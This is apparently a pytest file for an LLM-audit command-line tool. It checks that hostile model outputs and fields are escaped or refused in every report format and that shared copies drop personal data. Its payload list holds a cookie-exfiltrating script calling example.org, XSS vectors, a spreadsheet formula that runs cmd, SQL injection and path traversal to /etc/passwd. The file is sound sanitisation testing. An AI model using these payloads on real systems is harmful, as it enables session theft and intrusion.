"""Whatever a model, a catalogue, a customer or a forger writes is escaped, refused or caught; nothing crashes."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from xml.etree import ElementTree

import pytest
from finished import SUITE
from typer.testing import CliRunner, Result

from shoplm_audit.cli import app
from shoplm_audit.errors import AuditError
from shoplm_audit.evidence.files import load_run

SCRIPT = "<script>fetch('https://example.org/'+document.cookie)</script>"
HOSTILE = [
    SCRIPT,
    "<img src=x onerror=alert(1)><svg/onload=alert(2)>",
    "</style><style>*{display:none}</style>",
    "]]><failure/><![CDATA[",
    "</testcase><testcase name='forged'/>",
    "&lt;b&gt; &#60;b&#62; \\u003cb\\u003e",
    "\x00\x01\x1b[2J\x1b]0;owned\x07\x7f\x9b31m",
    "\u202egnp.exe \u2066hidden\u2069 \u200b\ufeff",
    "\ud800 half \udfff",
    '=HYPERLINK("http://example.org","pay")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
    "[link](javascript:alert(1)) ![x](http://example.org/x.png)",
    "a" * 1_000_000,
    "\n" * 2000 + "\r\n\u2028\u2029\x85",
    "'; DROP TABLE observations; --",
    "../../../../etc/passwd\x00.html",
    "Mei Lin, mei.lin@example.com, +44 20 7946 0174, 4111 1111 1111 1111, sk-abcdefghijklmnop1234",
    "﷽" * 50 + "e" + "\u0301" * 300,
    "",
]
EVIL = [*HOSTILE[:10], HOSTILE[16], HOSTILE[17]]


def program(*arguments: str | Path) -> Result:
    return CliRunner().invoke(app, [str(one) for one in arguments])


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of the real program: every text of the model is hostile, and so are the ids, facts and groups of cases."""
    folder = tmp_path_factory.mktemp("hostile")
    suite = folder / "suite <b>&'"
    suite.mkdir()
    cases = (
        f"EVIL = {EVIL!r}\n"
        "HOSTILE = [Case(f'{evil}/{i}', {'title': evil, 'record': {evil: evil}, 'days': 1}, evil, {'category': evil},\n"
        "    cluster=evil, language='zh' if i % 2 else 'en', task='description', prompt=Prompt(evil + f' {i}'))\n"
        "    for i, evil in enumerate(EVIL)]\n"
    )
    text = SUITE.replace("def ask(case):", f"{cases}\n\ndef ask(case):").replace("CASES, ask", "CASES + HOSTILE, ask")
    (suite / "suite.py").write_text(text, encoding="utf-8")
    names = [f"q{i}" for i in range(24)] + [f"{evil}/{i}" for i, evil in enumerate(EVIL)]
    with (folder / "answers.jsonl").open("w", encoding="utf-8") as file:
        for probe in ("ask", "again"):
            for i, name in enumerate(names):
                case = f"returns_policy/{probe}/{name}"
                file.write(json.dumps({"case": case, "sample": 0, "text": HOSTILE[i % len(HOSTILE)]}) + "\n")
    told = program(
        *("run", suite, "--model", f"recorded:{folder / 'answers.jsonl'}", "--out", folder / "run"),
        *("--store", folder / "store.sqlite"),
    )
    assert told.exit_code in (0, 1, 3), (told.output, told.exception)
    return folder


def suite_of(made: Path) -> Path:
    return made / "suite <b>&'"


def markup(page: str) -> str:
    """A page without its own style and script."""
    return re.sub(r"<(style|script)\b.*?</\1>", "", page, flags=re.S)


@pytest.mark.parametrize(
    ("form", "name"),
    [
        ("html", "report.html"),
        ("junit", "junit.xml"),
        ("sarif", "x.sarif"),
        ("modelcard", "x.md"),
        ("dossier", "d.html"),
    ],
)
def test_hostile_texts_are_escaped_in_every_form(made: Path, tmp_path: Path, form: str, name: str) -> None:
    told = program("report", made / "run", "--format", form, "--out", tmp_path / name)
    assert told.exit_code == 0, (told.output, told.exception)
    text = (tmp_path / name).read_text(encoding="utf-8")
    assert len(text) < 1_500_000
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]", text)
    if form in ("html", "dossier"):
        for live in ("fetch('https://example", "<img src=x", "onload=alert", "*{display:none}", "javascript:alert"):
            assert not re.search(rf"<[^>]*{re.escape(live)}", markup(text)), live
            assert live not in "".join(re.findall(r"<(?:style|script)\b.*?</(?:style|script)>", text, re.S))
    elif form == "junit":
        root = ElementTree.fromstring(text)
        assert root.find(".//testcase[@name='forged']") is None
    elif form == "sarif":
        assert json.loads(text)["version"] == "2.1.0"
    assert "mei.lin@example.com" not in text
    assert "4111 1111 1111 1111" not in text
    assert "sk-abcdefghijklmnop1234" not in text


def test_hostile_evidence_is_read_back_and_verifies(made: Path) -> None:
    told = program("verify", made / "run", "--suite", suite_of(made))
    assert told.exit_code == 0, (told.output, told.exception)
    assert "\x1b" not in told.output
    rows = load_run(made / "run").observations["returns_policy", "ask"]
    assert {len(text) for text in rows.texts("text")} >= {0, 1_000_000}


@pytest.mark.parametrize("audience", ["public", "partner"])
def test_a_shared_copy_of_it_holds_nobody_and_no_prompt(made: Path, tmp_path: Path, audience: str) -> None:
    out = tmp_path / "shared"
    told = program("report", made / "run", "--share", audience, "--out", out)
    assert told.exit_code == 0, (told.output, told.exception)
    assert {path.name for path in out.iterdir()} == {"result.json", "report.html", "junit.xml", "manifest.json"}
    text = "".join(path.read_text(encoding="utf-8") for path in out.iterdir())
    for held in ("mei.lin@example.com", "customer3", "May customer", "sk-abcdefg", str(made), "fetch('https"):
        assert held not in text
    if audience == "public":
        assert "pay" not in re.findall(r"\w+", text)  # nothing of what the model wrote
    assert program("report", made / "run", "--share", audience, "--out", out).exit_code == 0  # again, over the last


def test_a_shared_copy_is_written_over_nothing_else(made: Path, tmp_path: Path) -> None:
    (tmp_path / "keep.txt").write_text("mine")
    told = program("report", made / "run", "--share", "public", "--out", tmp_path)
    assert isinstance(told.exception, AuditError)
    assert [path.name for path in tmp_path.iterdir()] == ["keep.txt"]


@pytest.mark.parametrize("subject", ["../../../../etc/passwd\x00.html", "'; DROP TABLE observations; --"])
def test_a_hostile_subject_erases_its_own_rows_and_nothing_else(made: Path, tmp_path: Path, subject: str) -> None:
    run = tmp_path / "run"
    shutil.copytree(made / "run", run)
    before = len(load_run(run).observations["returns_policy", "ask"])
    told = program("evidence", "erase", run, subject, "--yes")
    assert told.exit_code == 0, (told.output, told.exception)
    assert 0 < before - len(load_run(run).observations["returns_policy", "ask"]) < 5
    checked = program("verify", run, "--suite", suite_of(made))
    assert checked.exit_code == 3, "what rests on erased rows cannot be recomputed, and nothing differs"
    assert "erased" in checked.output


@pytest.mark.parametrize("place", ["result.json", "evidence.sqlite", "manifest.json"])
@pytest.mark.parametrize("content", [b"", b"\x00\xff", b"[" * 50_000, b'{"sha256": {"../x": 1}}', b"null", b"1" * 9999])
def test_a_file_of_something_else_is_no_crash(made: Path, tmp_path: Path, place: str, content: bytes) -> None:
    run = tmp_path / "run"
    shutil.copytree(made / "run", run)
    (run / place).write_bytes(content)
    told = program("verify", run)
    assert told.exit_code == 1, (told.output, told.exception)
    assert told.exception is None or isinstance(told.exception, AuditError | SystemExit), told.exception


def test_a_waiver_edited_after_signing_does_not_waive(made: Path, tmp_path: Path) -> None:
    import subprocess

    key, file = tmp_path / "key.pem", tmp_path / "waivers.toml"
    subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-out", key], check=True, capture_output=True)
    key.chmod(0o600)
    gate, why = "returns_policy.rate_promises", 'No"\n[[waiver]] '
    told = program(
        *("evidence", "waive", gate, "--by", SCRIPT, "--why", why, "--until", "2030-01-01"),
        *("--file", file, "--sign-key", key),
    )
    assert told.exit_code == 0, (told.output, told.exception)
    again = ("run", suite_of(made), "--model", f"recorded:{made / 'answers.jsonl'}", "--store", made / "store.sqlite")
    program(*again, "--out", tmp_path / "run", "--waivers", file)
    assert [one.state for one in load_run(tmp_path / "run").result.waivers] == ["in force"]
    assert SCRIPT not in (tmp_path / "run" / "report.html").read_text(encoding="utf-8")
    assert program("verify", tmp_path / "run", "--suite", suite_of(made)).exit_code == 0
    file.write_text(file.read_text(encoding="utf-8").replace("2030", "2031"), encoding="utf-8")
    assert program(*again, "--out", tmp_path / "edited", "--waivers", file).exit_code == 1
    assert [one.state for one in load_run(tmp_path / "edited").result.waivers] == ["broken"]
